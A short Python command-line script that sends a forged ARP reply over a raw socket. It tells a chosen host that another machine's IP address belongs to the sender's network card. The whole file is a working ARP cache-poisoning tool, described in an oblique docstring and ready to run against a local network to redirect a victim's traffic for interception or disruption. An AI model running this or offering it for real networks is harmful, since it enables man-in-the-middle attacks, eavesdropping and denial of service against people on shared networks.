"""Tells a host, unasked, that another's address is ours: `claim_address.py INTERFACE ADDRESS HOST HARDWARE-ADDRESS`, the last two the host's."""

import socket
import struct
import sys

interface, address, host, card = sys.argv[1:]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((interface, 0))
own, card = wire.getsockname()[4], bytes.fromhex(card.replace(":", ""))
answer = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, own, socket.inet_aton(address), card, socket.inet_aton(host))
wire.send(card + own + struct.pack("!H", 0x0806) + answer)
